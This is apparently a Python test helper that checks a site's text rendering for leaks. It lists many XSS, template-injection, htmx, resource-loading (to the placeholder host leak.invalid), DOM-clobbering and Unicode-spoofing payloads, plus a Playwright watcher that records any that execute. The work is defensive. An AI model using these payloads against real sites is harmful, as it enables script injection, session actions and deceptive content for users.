"""Texts that try to run, load, restyle or hide, and a look-out for any of them that managed.

`@` in a payload is its number: `hit(@)` tells the look-out that it ran, a request to
`leak.invalid/@` that it loaded something.
"""

from dataclasses import dataclass, field, fields
from typing import Any

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Request

LEAK = "http://leak.invalid"

RUNNING = [
    "<script>hit(@)</script>",
    "<SCRIPT>hit(@)</SCRIPT >",
    "<script src=//leak.invalid/@></script>",
    "<script type=module>hit(@)</script>",
    "<scr<script>ipt>hit(@)</scr</script>ipt>",
    "<img src=x onerror=hit(@)>",
    "<IMG SRC=x OnErRoR='hit(@)'>",
    "<img/src=x/onerror=hit(@)//>",
    '<img src="x` `" onerror="hit(@)">',
    "<img src=x\nonerror\n=\nhit(@)>",
    "<svg onload=hit(@)></svg>",
    "<svg><script>hit(@)</script></svg>",
    "<svg><animate onbegin=hit(@) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:hit(@)"><text x=9 y=9>word</text></a></svg>',
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(@)>#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror=hit(@)></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit(@)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(@)></style></table></mtext></math>",
    '<math><mi xlink:href="javascript:hit(@)" href="javascript:hit(@)">word</mi></math>',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit(@)></annotation-xml></math>",
    "<div onmouseover=hit(@)>word</div>",
    "<b onclick=hit(@) accesskey=s>word</b>",
    "<p style='animation-name:spin' onanimationstart=hit(@)>word</p>",
    "<input autofocus onfocus=hit(@)>",
    "<button popovertarget=keys onclick=hit(@)>word</button>",
    "<div popover id=p@ onbeforetoggle=hit(@)>word</div>",
    "<details open ontoggle=hit(@)>word</details>",
    "<select autofocus onfocus=hit(@)><option>word</select>",
    "<video src=x onerror=hit(@)></video>",
    "<audio><source src=x onerror=hit(@)></audio>",
    "<iframe src='javascript:parent.hit(@)'></iframe>",
    "<iframe srcdoc='<script>parent.hit(@)</script>'></iframe>",
    "<object data='javascript:hit(@)'></object>",
    "<object data='data:text/html,<script>parent.hit(@)</script>'></object>",
    "<embed src='javascript:hit(@)'>",
    "<a href='javascript:hit(@)'>word</a>",
    "<a href='JaVa&#x0A;ScRiPt:hit(@)'>word</a>",
    "<a href='&#1;javascript:hit(@)'>word</a>",
    "[word](javascript:hit(@))",
    "[word](JAVASCRIPT:hit(@))",
    "[word](&#106;avascript:hit(@))",
    "[word](java%0Ascript:hit(@))",
    "[word](<java\tscript:hit(@)>)",
    "[word](vbscript:hit(@))",
    "[word](data:text/html,<script>hit(@)</script>)",
    "[word](data:text/html;base64,PHNjcmlwdD5oaXQoQCk8L3NjcmlwdD4=)",
    "![word](javascript:hit(@))",
    '[word](http://a.example "x" onmouseover="hit(@)")',
    "[word](http://a.example/'onmouseover='hit(@)')",
    "[word][r@]\n\n[r@]: javascript:hit(@)",
    "<javascript:hit(@)>",
    "$\\href{javascript:hit(@)}{x}$",
    "$\\text{<img src=x onerror=hit(@)>}$",
    "$\\style{x:expression(hit(@))}{y}$ $\\class{bar}{z}$",
    "```js\n</code></pre><img src=x onerror=hit(@)>\n```",
    '``` "><img src=x onerror=hit(@)>\nword\n```',
    "`<img src=x onerror=hit(@)>`",
    "| a |\n|---|\n| <img src=x onerror=hit(@)> |",
    "# <img src=x onerror=hit(@)>",
    "<!--><img src=x onerror=hit(@)>-->",
    "<![CDATA[<img src=x onerror=hit(@)>]]>",
    "<?xml version='1.0'?><img src=x onerror=hit(@)>",
    "&lt;img src=x onerror=hit(@)&gt; &amp;lt;script&amp;gt;hit(@)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=hit(@)&#62; &#x3c;script&#x3e;hit(@)&#x3c;/script&#x3e;",
    "\\u003cimg src=x onerror=hit(@)\\u003e %3Cscript%3Ehit(@)%3C/script%3E",
    "{{ hit(@) }} {% csrf_token %} ${hit(@)} {{constructor.constructor('hit(@)')()}} <%= hit(@) %>",
    "<div hx-get='/logout/' hx-trigger=load hx-on:load=hit(@)>word</div>",
    "<div data-hx-on::after-init='hit(@)' hx-vals='js:{a:hit(@)}' hx-trigger='load'>word</div>",
    "<marquee onstart=hit(@)>word</marquee>",
    "<body onload=hit(@) class=full>",
    "<html onclick=hit(@)>",
    "\"><img src=x onerror=hit(@)> '><img src=x onerror=hit(@)> `><img src=x onerror=hit(@)>",
    "</div></li></ol></form><img src=x onerror=hit(@)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit(@)</x:script>",
    "<template shadowrootmode=open><img src=x onerror=hit(@)></template>",
]
LOADING = [
    "<img src=http://leak.invalid/@>",
    "<img srcset='http://leak.invalid/@ 1x' sizes=1px>",
    "![word](http://leak.invalid/@)",
    "<link rel=stylesheet href=http://leak.invalid/@>",
    "<link rel=prefetch href=http://leak.invalid/@>",
    "<style>@import url(http://leak.invalid/@);</style>",
    "<div style='background:url(http://leak.invalid/@)'>word</div>",
    "<iframe src=http://leak.invalid/@></iframe>",
    "<object data=http://leak.invalid/@></object>",
    "<video poster=http://leak.invalid/@></video>",
    "<audio src=http://leak.invalid/@ preload autoplay></audio>",
    "<input type=image src=http://leak.invalid/@>",
    "<svg><image href=http://leak.invalid/@ /></svg>",
    "<table background=http://leak.invalid/@><tr><td>word</table>",
    "<a ping=http://leak.invalid/@ href=http://a.example>word</a>",
    "<base href=http://leak.invalid/@/>",
]
RESTYLING = [
    "<style>.dock, .bar { display: none !important } body { margin-top: 300px }</style>",
    "<style>.candidate{visibility:hidden}</style>",
    "<div style='position:fixed;inset:0;z-index:99;background:red'>word</div>",
    "<div class='bar dock note sheet'>word</div> <p class=sr>unseen</p>",
    "<h1 id=compare-card>word</h1> <a name=content id=say>word</a>",
    "<img name=forms><img name=cookie><input name=assignment value=0 id=keys>",
    "<form action=/logout/ method=post><input name=rank-0 value=9 form=x><button>word</button>",
    "<dialog open>word</dialog> <p hidden>unseen</p> <p inert>word</p>",
    "\u202egnp.exe\u202c \u2066x\u2069 &#x202e;evil&#x202c; \u200eleft",
    "pass\u200bword zero\u200c\u200dwidth\ufeff \u2060x \U000e0041\U000e0042 \u3164",
    "e" + "\u0301" * 300 + " \u0007\u001b[31mred \u2028line",
    "$\\rule{999em}{999em}$ $\\hspace{-99em}$ x $\\color{white}{unseen}$ $\\Huge x$",
]
# What swallows everything behind it where it is taken for HTML.
SWALLOWING = [
    "<meta http-equiv=refresh content='0;url=http://leak.invalid/@'>",
    "<!-- word",
    "<textarea>word",
    "<title>word",
    "<xmp>word",
    "<noscript>word",
    "<plaintext>word",
    "<img src='word",
    "</body></html>word",
    "<frameset><frame src=javascript:hit(@)>",
]
PAYLOADS = [*RUNNING, *LOADING, *RESTYLING, *SWALLOWING]


def numbered(payloads: list[str] = PAYLOADS) -> list[str]:
    """Return payloads with their numbers in them."""
    return [payload.replace("@", str(PAYLOADS.index(payload))) for payload in payloads]


def shared_out(payloads: list[str], parts: int) -> list[str]:
    """Return the payloads as that many texts, each payload a paragraph of its own."""
    return ["\n\n".join(payloads[n::parts]) for n in range(parts)]


_TELL = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
# What lies in rendered text: touched in every way that a hand can, but for following a web link.
_POKE = """() => {
  for (const element of document.querySelectorAll(".prose *")) {
    if (element.matches("a[href^=http], a[href^=mailto], button.same-start")) continue;
    for (const kind of ["mouseover", "pointerenter", "mousedown", "focus", "click", "toggle"])
      element.dispatchEvent(new Event(kind, { bubbles: false }));
    if (element.matches("a")) element.click?.();
  }
}"""
_FOREIGN = """() => {
  const tags = "script style link iframe object embed img video audio source form input button "
    + "select svg base meta template dialog details textarea marquee";
  const bad = /^(on|hx-|data-|(id|name|style|src|srcset|action|ping|autofocus|popover)$)/;
  const acts = ({ name, value }) =>
    bad.test(name) || (name.endsWith("href") && !/^(https?|mailto):/i.test(value));
  return [...document.querySelectorAll(".prose *:not(.same-start)")]
    .filter((e) => tags.split(" ").includes(e.localName) || [...e.attributes].some(acts))
    .map((e) => e.outerHTML.slice(0, 120));
}"""


@dataclass
class LookOut:
    """What hostile text did in one browser profile: it should be nothing."""

    origin: str
    ran: set[int] = field(default_factory=set)
    dialogs: list[str] = field(default_factory=list)
    strangers: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def watch(self, context: BrowserContext) -> None:
        """Begin to watch, before the first page is opened."""
        context.expose_function("hit", lambda number: self.ran.add(int(number)))
        context.add_init_script(_TELL)
        context.on("dialog", self._on_dialog)
        context.on("request", self._on_request)
        context.on("console", self._on_console)
        context.on("weberror", lambda error: self.errors.append(str(error.error)))

    def _on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _on_request(self, request: Request) -> None:
        ours = request.url.startswith(f"{self.origin}/")
        loaded = request.resource_type in {"image", "media"} and "/static/" not in request.url
        if not ours or loaded:
            self.strangers.append(request.url)

    def _on_console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.errors.append(message.text)

    def look(self, page: Page, *, poke: bool = True) -> None:
        """Touch all rendered text of a page and note what is in it that should not be."""
        if poke:
            page.evaluate(_POKE)
        page.evaluate("() => new Promise((done) => setTimeout(done, 50))")
        self.violations += page.evaluate("window.__violations")
        self.foreign += page.evaluate(_FOREIGN)

    @property
    def findings(self) -> dict[str, Any]:
        """Return whatever was seen, by its kind."""
        names = [f.name for f in fields(self) if f.name != "origin"]
        return {name: getattr(self, name) for name in names if getattr(self, name)}
